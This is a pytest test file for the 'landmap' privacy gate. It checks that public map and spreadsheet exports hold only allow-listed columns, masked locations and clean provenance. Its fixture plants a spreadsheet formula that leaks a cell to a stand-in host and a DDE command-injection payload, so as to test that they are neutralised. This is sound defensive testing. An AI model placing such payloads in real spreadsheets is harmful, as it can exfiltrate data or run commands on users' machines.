"""The privacy gate: one way to a public product, an allow-list of columns, nothing by name.

Each test names the finding it guards against; on the code before the gate each of them failed
(the public profile was a deny-list of recognised names, masking was switched off by a column
called ``published_location``, the explorer wrote the per-case audit beside a public CSV,
provenance carried absolute paths and the register's hash, formulas were written raw).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from _projects import HOSTILE_HEADERS
from openpyxl import load_workbook

from landmap.errors import PrivacyError
from landmap.io.load import load_cases
from landmap.privacy import PUBLIC, PublishedLayer, merge, publish
from landmap.render.briefing.options import Paper

ROOT = Path(__file__).resolve().parent.parent
LANDMAP = [sys.executable, "-m", "landmap.cli"]
METRIC = "EPSG:32648"

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'


def _value(header: str, row: int) -> str:
    return f"SYNTHETIC {header} {row:03d}"


@pytest.fixture(scope="module")
def register(tmp_path_factory) -> Path:
    """40 synthetic cases with people's names under headers no pattern knows, and traps."""
    frame = pd.read_csv(ROOT / "data" / "synthetic_cases.csv", dtype=str).iloc[:40].copy()
    for header in HOSTILE_HEADERS:
        frame[header] = [_value(header, i) for i in range(len(frame))]
    frame["published_location"] = "already moved, trust me"  # must not switch masking off
    frame.loc[0, "village"] = FORMULA
    frame.loc[1, "status"] = "+cmd|' /C calc'!A0"
    path = tmp_path_factory.mktemp("register") / "register.csv"
    frame.to_csv(path, index=False)
    return path


def _cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([*LANDMAP, *args], capture_output=True, text=True, check=False, cwd=cwd)


@pytest.fixture(scope="module")
def exported(register, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("export") / "out"
    run = _cli("export", str(register), "--format", "geojson,xlsx,csv,kml", "-o", str(out))
    assert run.returncode == 0, run.stderr
    return out


def _all_bytes(folder: Path) -> bytes:
    return b"\n".join(p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file())


@pytest.mark.slow
def test_names_under_unknown_headers_never_reach_public_files(exported):
    """Finding 1: columns the old deny-list did not recognise were published."""
    blob = _all_bytes(exported)
    for header in HOSTILE_HEADERS:
        assert _value(header, 5).encode() not in blob, header
    geojson = gpd.read_file(exported / "landmap.geojson")
    assert not set(HOSTILE_HEADERS) & set(geojson.columns)
    assert set(geojson.columns) - {"geometry"} <= set(PUBLIC.public_columns("cases")) | {
        "published_location"
    }
    book = load_workbook(exported / "landmap.xlsx")
    headers = {cell.value for cell in next(book["register"].iter_rows(max_row=1))}
    assert not headers & set(HOSTILE_HEADERS)
    provenance = json.loads((exported / "landmap.geojson.provenance.json").read_text("utf-8"))
    dropped = " ".join(provenance["omitted"])
    assert all(f"'{h}'" in dropped for h in HOSTILE_HEADERS)  # every column said where it went


def test_a_published_location_column_does_not_switch_masking_off(register, exported):
    """Finding 2: a column named published_location made the export keep exact points."""
    true = load_cases(register).data.set_index("case_id").to_crs(METRIC)
    out = gpd.read_file(exported / "landmap.geojson").set_index("case_id").to_crs(METRIC)
    moved = out.geometry.distance(true.geometry.loc[out.index], align=False)
    assert len(out) >= 30 and (moved >= PUBLIC.min_radius_m).all()
    assert not out["published_location"].str.contains("trust me").any()


def test_formulas_are_text_in_public_and_internal_spreadsheets(register, exported, tmp_path):
    """Finding 9: values starting with = + - @ were written raw into CSV and XLSX."""
    csv = pd.read_csv(exported / "landmap-register.csv", dtype=str, encoding="utf-8-sig")
    assert (
        csv.loc[csv["village"].str.contains("HYPERLINK", na=False), "village"].iloc[0]
        == "'" + FORMULA
    )
    assert csv["status"].str.startswith("'+cmd").any()
    book = load_workbook(exported / "landmap.xlsx")
    cells = [c.value for row in book["register"].iter_rows() for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    report = tmp_path / "report.csv"  # an internal product: the load report
    run = _cli("check", str(register), "--as", "cases", "--report", str(report))
    assert run.returncode in (0, 1), run.stderr
    assert not any(
        line.split(",", 1)[0].startswith(("=", "+", "-", "@"))
        for line in report.read_text("utf-8-sig").splitlines()
    )


def test_public_provenance_names_inputs_by_file_name_only(register, exported):
    """Finding 8: public provenance carried absolute paths and the register's SHA-256 and size."""
    import hashlib

    digest = hashlib.sha256(register.read_bytes()).hexdigest()
    for path in exported.glob("*.provenance.json"):
        text = path.read_text("utf-8")
        record = json.loads(text)
        assert str(register.parent) not in text and digest not in text
        assert record["inputs"] == [{"name": "register.csv"}]
        assert "bytes" not in text


def test_explorer_public_export_writes_only_the_public_audit(register, tmp_path):
    """Finding 3: the explorer's public export wrote the per-case audit beside the CSV."""
    from landmap.widgets import Explorer

    cases = load_cases(register).data
    explorer = Explorer(cases, profile="public")
    written = explorer.export(tmp_path / "share")
    assert set(written) == {"map", "table", "audit"}
    assert all(
        p.is_absolute() and p.parent == (tmp_path / "share").resolve() for p in written.values()
    )
    audit = json.loads(written["audit"].read_text("utf-8"))
    assert "detail" not in audit and "consistency_cases" not in json.dumps(audit)
    blob = _all_bytes(tmp_path / "share")
    assert _value("owner", 3).encode() not in blob
    table = pd.read_csv(written["table"], encoding="utf-8-sig")
    assert set(table.columns) <= set(PUBLIC.public_columns("cases")) | {"published_location"}
    assert not list((tmp_path / "share").glob(".landmap-*"))  # staging removed


def test_every_public_writer_refuses_raw_cases(register, tmp_path):
    """Nothing decides from a column name that a layer is already masked: raw data is refused."""
    from landmap.render import briefing_map, export_layers, write_data
    from landmap.render.maps import build_map

    cases = load_cases(register).data
    disguised = cases.assign(published_location="moved")
    attempts = [
        lambda: build_map(cases=disguised),
        lambda: write_data(tmp_path / "x.geojson", {"cases": disguised}),
        lambda: briefing_map(tmp_path / "x.png", cases=disguised, paper=Paper(dpi=20)),
        lambda: export_layers(
            tmp_path / "set", {"cases": ("cases", disguised)}, formats=["geojson"]
        ),
    ]
    for attempt in attempts:
        with pytest.raises(PrivacyError, match="raw case data"):
            attempt()
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]


def test_a_published_layer_is_made_only_by_the_gate_and_cannot_change(register):
    cases = load_cases(register).data
    published = publish(cases, kind="cases", seed=1)
    with pytest.raises(PrivacyError, match="made only by landmap.privacy.publish"):
        PublishedLayer(
            object(),
            data=cases,
            kind="cases",
            name=None,
            profile=PUBLIC,
            audit={},
            detail={},
            omitted=[],
            source=None,
        )
    with pytest.raises(AttributeError):
        published.kind = "areas"
    copy = published.data
    copy["owner"] = "SYNTHETIC x"
    assert "owner" not in published.data.columns
    assert publish(published) is published  # no second draw for a layer already published
    with pytest.raises(PrivacyError, match="already published"):
        publish(published, "internal")


def test_merged_layers_keep_one_draw_and_refuse_mixed_profiles(register):
    cases = load_cases(register).data
    a = publish(cases.iloc[:20], kind="cases", name="a", seed=1)
    b = publish(cases.iloc[20:], kind="cases", name="b", seed=2)
    both = merge([a, b], name="all")
    assert len(both) == len(a) + len(b)
    assert shapely.equals(
        np.asarray(both.data.geometry.array[: len(a)]), np.asarray(a.data.geometry.array)
    ).all()
    with pytest.raises(PrivacyError, match="one profile"):
        merge([a, publish(cases.iloc[:5], "internal", kind="cases")])


def test_kept_column_that_looks_personal_is_published_with_a_warning(register):
    cases = load_cases(register).data
    profile = PUBLIC.replace(keep=("reported_by",))
    published = publish(cases, profile, kind="cases", seed=1)
    assert "reported_by" in published.data.columns
    assert any("reported_by" in w and "looks like" in w for w in published.audit["warnings"])


@pytest.mark.slow
def test_popup_column_removed_by_the_profile_says_so(register, tmp_path):
    """A popup column the public profile removed is named as such, with the way out."""
    run = _cli("map", f"{register}:cases", "-o", str(tmp_path / "m.html"), "--popup", "description")
    assert run.returncode == 2 and "Traceback" not in run.stderr
    assert "removed by the 'public' privacy profile" in run.stderr
    assert "--profile internal" in run.stderr
    assert not (tmp_path / "m.html").exists()


def _keyed_project(folder: Path, register: Path, key_line: str) -> Path:
    project = folder / "keyed.toml"
    project.write_text(
        f"""
[project]
name = "keyed"
output = "out"

[[layers]]
name = "cases"
kind = "cases"
path = "{register.as_posix()}"

[privacy]
profile = "public"
seed_policy = "keyed"
{key_line}
""",
        "utf-8",
    )
    return project


@pytest.mark.slow
def test_keyed_publication_from_a_project_shows_the_same_points_every_time(register, tmp_path):
    """Repeated publication: with the office's key every export moves each case the same way."""
    project = _keyed_project(tmp_path, register, 'key_file = "masking.key"')
    for out in ("first", "second"):
        run = _cli("export", str(project), "--format", "geojson", "-o", str(tmp_path / out))
        assert run.returncode == 0, run.stderr
    first = gpd.read_file(tmp_path / "first" / "keyed.geojson").set_index("case_id")
    second = gpd.read_file(tmp_path / "second" / "keyed.geojson").set_index("case_id")
    assert first.geometry.geom_equals_exact(second.geometry.loc[first.index], 1e-9).all()
    key = (tmp_path / "masking.key").read_text("ascii").strip()
    assert key not in _all_bytes(tmp_path / "first").decode("utf-8", "replace")


@pytest.mark.slow
def test_keyed_profile_without_a_key_file_is_a_one_line_error(register, tmp_path):
    project = _keyed_project(tmp_path, register, "")
    run = _cli("export", str(project), "--format", "geojson", "-o", str(tmp_path / "out"))
    assert run.returncode == 2 and "Traceback" not in run.stderr
    assert "key_file" in run.stderr and len(run.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()
